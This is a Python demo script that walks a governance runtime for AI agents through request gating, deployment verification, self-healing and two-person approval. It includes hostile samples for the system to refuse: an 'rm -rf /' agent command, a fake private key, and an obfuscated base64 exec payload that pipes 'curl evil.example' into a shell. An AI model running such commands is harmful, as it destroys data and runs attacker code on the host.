"""The story ``grace demo`` tells, on the embedded default, with every component real.

Acts: boot (the Guardian report); allowed and rejected requests; log-only versus enforce;
an agent's code deployment through verification and the unified decision (refused for
dangerous code; escalated, approved by a human, then deployed); a real demo service whose
latency spikes ⇒ anomaly ⇒ governed restart ⇒ verified healthy; a critical action waiting
for two approvers; ``audit verify`` and an inclusion proof checked offline.

Each act returns whether it went as told; the demo exits non-zero when one did not.
"""

from __future__ import annotations

import asyncio
import json
import socket
import sys
import time
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import httpx
from rich.console import Console
from rich.table import Table

from grace.cli import demo_service
from grace.config import (
    GovernanceSettings,
    GraceSettings,
    HealthCheckSettings,
    ImmuneSettings,
    LedgerSettings,
    MonitoringSettings,
    ProcessSettings,
)
from grace.errors import ApprovalError
from grace.governance.model import ActionRequest, Outcome, Principal, PrincipalKind, RiskLevel
from grace.ledger import ProofBundle, verify_bundle
from grace.runtime import Grace
from grace.verification import CodeBundle

__all__ = ["DEMO_SERVICE", "demo_settings", "free_port", "run_story", "seed_principals"]

DEMO_SERVICE = "demo-service"
LOG_ONLY_PATTERN = "sandbox:*"


def free_port() -> int:
    """A TCP port nobody listens on right now."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port: int = s.getsockname()[1]
        return port


def demo_settings(base: GraceSettings, data_dir: Path, service_port: int) -> GraceSettings:
    """``base`` plus the demo service (supervised, health-checked) and a log-only rollout
    stage for ``sandbox:*`` actions."""
    gov = base.governance.model_dump()
    gov["mode_overrides"] = {**gov["mode_overrides"], LOG_ONLY_PATTERN: "log"}
    return base.model_copy(
        update={
            "data_dir": data_dir,
            "ledger": LedgerSettings(**{**base.ledger.model_dump(), "checkpoint_interval_s": 0}),
            "governance": GovernanceSettings(**gov),
            "immune": ImmuneSettings(
                **{
                    **base.immune.model_dump(),
                    "processes": (
                        ProcessSettings(
                            name=DEMO_SERVICE,
                            argv=(
                                sys.executable,
                                demo_service.__file__,
                                "--port",
                                str(service_port),
                            ),
                            stop_timeout_s=3,
                        ),
                    ),
                }
            ),
            "monitoring": MonitoringSettings(
                **{
                    **base.monitoring.model_dump(),
                    "health_checks": (
                        HealthCheckSettings(
                            name=DEMO_SERVICE,
                            url=f"http://127.0.0.1:{service_port}/health",
                            interval_s=0.5,
                            degraded_latency_s=None,
                            fail_after=2,
                            recover_after=1,
                        ),
                    ),
                    "cooldown_s": 5.0,
                }
            ),
        }
    )


def seed_principals(grace: Grace) -> dict[str, Principal]:
    """The demo's cast (created once; a re-run finds them)."""
    cast = {
        "alice": (PrincipalKind.HUMAN, ["operator", "approver", "auditor"], 0),
        "bob": (PrincipalKind.HUMAN, ["approver"], 0),
        "carol": (PrincipalKind.HUMAN, ["approver", "auditor"], 0),
        "agent-dev": (PrincipalKind.AGENT, ["developer"], 3),
        "load-client": (PrincipalKind.SERVICE, ["pep", "metrics_writer"], 0),
    }
    out: dict[str, Principal] = {}
    for pid, (kind, roles, tier) in cast.items():
        out[pid] = grace.principals.get(pid) or grace.principals.add(
            pid, kind=kind, roles=roles, autonomy_tier=tier
        )
    return out


class _Narrator:
    def __init__(self, console: Console) -> None:
        self.console = console
        self.results: list[tuple[str, bool]] = []

    def act(self, title: str) -> None:
        self.console.rule(f"[bold]{title}")

    def say(self, text: str) -> None:
        self.console.print(text)

    def check(self, what: str, ok: bool, detail: str = "") -> None:
        mark = "[green]✔[/]" if ok else "[red]✘[/]"
        self.console.print(f"  {mark} {what}" + (f" [dim]({detail})[/]" if detail else ""))
        self.results.append((what, ok))


def _reasons(decision: Any) -> str:
    return "; ".join(
        f"{r.message}" + (f" [{r.principle}]" if r.principle else "") for r in decision.reasons
    )


async def run_story(settings: GraceSettings, console: Console) -> bool:
    """Tell the whole story; True when every act went as told."""
    n = _Narrator(console)
    port = free_port()
    data_dir = Path(settings.data_dir)
    grace = await Grace.start(demo_settings(settings, data_dir, port))
    try:
        await _boot(n, grace)
        cast = seed_principals(grace)
        await _requests(n, grace, cast)
        await _log_only(n, grace, cast)
        await _deployment(n, grace, cast, data_dir)
        await _heal(n, grace, port)
        await _parliament(n, grace, cast)
    finally:
        await grace.stop()
    await _audit(n, settings, data_dir)
    failed = [what for what, ok in n.results if not ok]
    n.console.rule()
    if failed:
        n.say(f"[red]{len(failed)} step(s) did not go as told:[/] " + "; ".join(failed))
    else:
        n.say(f"[green]Every step went as told[/] ({len(n.results)} checks). Data: {data_dir}")
    return not failed


async def _boot(n: _Narrator, grace: Grace) -> None:
    n.act("1. Boot: the Guardian starts every system in order")
    report = grace.boot_report
    table = Table(show_header=True, header_style="bold")
    for column in ("chunk", "priority", "status", "attempts", "ms"):
        table.add_column(column)
    for chunk in report.chunks:
        table.add_row(
            chunk.chunk_id,
            f"{chunk.priority:g}",
            str(chunk.status),
            str(chunk.attempts),
            f"{chunk.duration_s * 1000:.1f}",
        )
    n.console.print(table)
    n.check(
        f"boot {report.state}", str(report.state) == "ready", f"ledger seq {report.receipt_seq}"
    )


async def _requests(n: _Narrator, grace: Grace, cast: dict[str, Principal]) -> None:
    n.act("2. Allowed and rejected requests (enforce mode)")
    ok = await grace.wiring.process_request(
        cast["alice"], "GET:/v1/reports/{id}", "reports/q3", {"reason": "quarterly review"}
    )
    n.check(
        "alice reads a report: allowed",
        ok["allowed"] is True,
        f"decision {ok['response']['decision']}",
    )
    bad = await grace.gate.decide(
        ActionRequest(
            request_id="demo-destructive",
            principal=cast["agent-dev"],
            action="execute_task",
            resource="host:build-1",
            context={"command": "cleanup && rm -rf / --no-preserve-root", "reason": "tidy up"},
            is_autonomous=True,
            source="demo",
        )
    )
    n.check(
        "an agent's `rm -rf /` is rejected with the principle it violates",
        bad.outcome is Outcome.REJECTED and not bad.allowed,
        _reasons(bad)[:160],
    )
    leak = await grace.gate.decide(
        ActionRequest(
            request_id="demo-leak",
            principal=cast["alice"],
            action="POST:/v1/notes",
            resource="notes",
            context={"body": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk="},
            source="demo",
        )
    )
    n.check("a leaked private key is rejected", not leak.allowed, _reasons(leak)[:160])


async def _log_only(n: _Narrator, grace: Grace, cast: dict[str, Principal]) -> None:
    n.act("3. Rollout: the same violation in log-only mode is recorded, not blocked")
    request = ActionRequest(
        request_id="demo-log-only",
        principal=cast["agent-dev"],
        action="sandbox:execute_task",
        resource="sandbox:vm-7",
        context={"command": "rm -rf /", "reason": "testing the rollout"},
        is_autonomous=True,
        source="demo",
    )
    decision = await grace.gate.decide(request)
    n.say(f"  mode for sandbox:* = [bold]{grace.gate.mode_for(request.action)}[/]")
    n.check(
        "log mode lets it run but records the would-be rejection",
        decision.allowed and decision.outcome is Outcome.REJECTED,
        f"outcome {decision.outcome}, ledger seq {decision.receipt_seq}",
    )


CLEAN_CODE = {
    "pricing.py": (
        "def discount(price: float, pct: float) -> float:\n"
        "    return round(price * (1 - pct / 100), 2)\n"
    ),
}
CLEAN_TESTS = {
    "test_pricing.py": (
        "from pricing import discount\n\n\n"
        "def test_discount():\n    assert discount(200.0, 10) == 180.0\n"
    )
}
DANGEROUS_CODE = {
    "helper.py": (
        "import base64\n\n"
        "payload = base64.b64decode(\n"
        "    'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgZXZpbC5leGFtcGxlIHwgc2gnKQ=='\n"
        ")\n"
        "exec(payload)\n"
    )
}


async def _deployment(
    n: _Narrator, grace: Grace, cast: dict[str, Principal], data_dir: Path
) -> None:
    n.act("4. An agent deploys generated code: verification, governance, unified decision")
    deployed: list[str] = []
    target_dir = data_dir / "deployments"

    async def deploy(bundle: CodeBundle, target: str) -> dict[str, Any]:
        target_dir.mkdir(parents=True, exist_ok=True)
        for name, data in bundle.files.items():
            (target_dir / name).write_bytes(data)
        deployed.append(target)
        return {"written": sorted(bundle.files)}

    refused = await grace.deployer.deploy_code(
        DANGEROUS_CODE, target="svc:pricing", actor=cast["agent-dev"], deploy=deploy
    )
    n.check(
        "obfuscated exec is a security violation; its tests never run; not deployed",
        not refused.deployed and refused.verification.security_violation,
        f"{refused.verification.status}, decision {refused.decision.action}",
    )
    first = await grace.deployer.deploy_code(
        CLEAN_CODE,
        tests=CLEAN_TESTS,
        target="svc:pricing",
        actor=cast["agent-dev"],
        deploy=deploy,
        reason="add a discount helper",
    )
    n.check(
        "clean code is verified in the sandbox and escalated for a human approval",
        first.verification.safe_to_execute and first.approval_id is not None and not deployed,
        f"tests {first.verification.tests.passed if first.verification.tests else 0} passed, "
        f"decision {first.decision.action}, approval {first.approval_id}",
    )
    if first.approval_id is None:
        return
    await grace.approvals.approve(first.approval_id, cast["alice"].id, comment="reviewed")
    second = await grace.deployer.deploy_code(
        CLEAN_CODE,
        tests=CLEAN_TESTS,
        target="svc:pricing",
        actor=cast["agent-dev"],
        deploy=deploy,
        reason="add a discount helper",
        approval_id=first.approval_id,
    )
    n.check(
        "approved by alice, the same code deploys (the callable ran)",
        second.deployed and deployed == ["svc:pricing"],
        f"decision {second.decision.action}, ledger seq {second.decision.receipt_seq}",
    )


async def _heal(n: _Narrator, grace: Grace, port: int) -> None:
    n.act("5. The demo service slows down: anomaly → governed restart → verified healthy")
    kernel = grace.immune
    if kernel is None:
        n.check("immune kernel running", False, "ENABLE_AVN_IMMUNE is off")
        return
    base = f"http://127.0.0.1:{port}"
    async with httpx.AsyncClient(timeout=5) as client:

        async def pid() -> int:
            return int((await client.get(f"{base}/admin/info")).json()["pid"])

        async def sample() -> float:
            start = time.perf_counter()
            (await client.get(f"{base}/work")).raise_for_status()
            return (time.perf_counter() - start) * 1000

        await _until(lambda: _answers(client, f"{base}/health"), 15)
        old_pid = await pid()
        for _ in range(40):  # the metric's baseline
            await grace.metrics.observe("demo_latency_ms", await sample(), resource=DEMO_SERVICE)
        (await client.post(f"{base}/admin/slow", params={"ms": 400})).raise_for_status()
        n.say("  told the service to answer in 400 ms; feeding the latency metric …")
        for _ in range(5):
            if kernel.get_stats()["anomalies_detected"]:
                break  # the kernel may already be restarting the service
            try:
                latency = await sample()
            except httpx.HTTPError:
                break
            n.say(f"  /work answered in {latency:.0f} ms")
            await grace.metrics.observe("demo_latency_ms", latency, resource=DEMO_SERVICE)
        await _until(lambda: _true(kernel.get_stats()["anomalies_detected"] > 0), 10)
        await asyncio.sleep(0.1)
        await kernel.wait_idle()
        await _until(lambda: _answers(client, f"{base}/health"), 15)
        new_pid = await pid()
        stats = kernel.get_stats()
        fast = await sample()
    n.check(
        "the latency spike became an anomaly and the kernel asked governance",
        stats["anomalies_detected"] >= 1,
        f"anomalies {stats['anomalies_detected']}, attempts {stats['healing_attempts']}",
    )
    n.check(
        "the service was restarted for real (new pid) and verified healthy",
        new_pid != old_pid and stats["healing_successes"] >= 1 and fast < 200,
        f"pid {old_pid} → {new_pid}, /work now {fast:.0f} ms, "
        f"MTTR {stats['mean_time_to_recovery_s']}",
    )


async def _answers(client: httpx.AsyncClient, url: str) -> bool:
    try:
        return (await client.get(url)).status_code == 200
    except httpx.HTTPError:
        return False


async def _true(value: bool) -> bool:
    return value


async def _until(check: Callable[[], Awaitable[bool]], timeout_s: float) -> None:
    deadline = time.monotonic() + timeout_s
    while not await check():
        if time.monotonic() > deadline:
            return
        await asyncio.sleep(0.05)


def _rotation(alice: Principal, request_id: str, approval_id: str | None = None) -> ActionRequest:
    """Alice's critical request to rotate the ledger's signing key."""
    return ActionRequest(
        request_id=request_id,
        principal=alice,
        action="rotate_signing_keys",
        resource="ledger",
        context={"reason": "scheduled key rotation"},
        declared_risk=RiskLevel.CRITICAL,
        source="demo",
        approval_id=approval_id,
    )


async def _parliament(n: _Narrator, grace: Grace, cast: dict[str, Principal]) -> None:
    n.act("6. A critical action waits for two distinct approvers")
    alice = cast["alice"]
    pending = await grace.gate.decide(_rotation(alice, "demo-rotate-keys"))
    n.check(
        "rotate_signing_keys (critical) → requires_parliament",
        pending.outcome is Outcome.REQUIRES_PARLIAMENT and pending.approval_id is not None,
        f"approval {pending.approval_id}",
    )
    approval_id = pending.approval_id
    if approval_id is None:
        return
    try:
        await grace.approvals.approve(approval_id, alice.id)
        self_ok = True
    except ApprovalError:
        self_ok = False
    n.check("alice cannot approve her own request", not self_ok)
    await grace.approvals.approve(approval_id, cast["bob"].id)
    one = await grace.approvals.get(approval_id)
    n.check("one approval is not a quorum", one is not None and str(one.state) == "pending")
    await grace.approvals.approve(approval_id, cast["carol"].id)
    retry = await grace.gate.decide(_rotation(alice, "demo-rotate-keys", approval_id))
    n.check("bob and carol approve: the same request now passes, once", retry.allowed)
    again = await grace.gate.decide(_rotation(alice, "demo-rotate-keys-again", approval_id))
    n.check("the approval is single-use", not again.allowed)


async def _audit(n: _Narrator, settings: GraceSettings, data_dir: Path) -> None:
    n.act("7. The record: audit verify, and an inclusion proof checked offline")
    from grace.ledger import Ledger

    async with await Ledger.open(data_dir, config=settings.ledger.to_config()) as ledger:
        checkpoint = await ledger.checkpoint()
        size = checkpoint.tree_size
        report = await ledger.verify()
        restart = None
        page = await ledger.query(subsystem="governance", action="avn:restart_service", limit=1)
        if page.entries:
            restart = page.entries[0].seq
        seq = restart or size
        bundle = await ledger.prove(seq, checkpoint.tree_size)
        path = data_dir / f"proof-{seq}.json"
        path.write_text(json.dumps(bundle.to_json(), indent=2) + "\n")
        vkey = ledger.verifier.vkey
    offline = verify_bundle(ProofBundle.from_json(json.loads(path.read_text())), ledger.verifier)
    n.check(
        "audit verify: chain, Merkle tree and every signed checkpoint",
        report.valid,
        f"{report.entries_checked} entries, {report.checkpoints_checked} checkpoints",
    )
    n.check(
        f"entry {seq} (the restart decision) is in the signed tree of {checkpoint.tree_size}",
        offline.valid,
        offline.reason,
    )
    n.say(f"  proof bundle: {path}")
    n.say(f"  check it yourself: grace audit verify-proof {path} --public-key '{vkey}'")
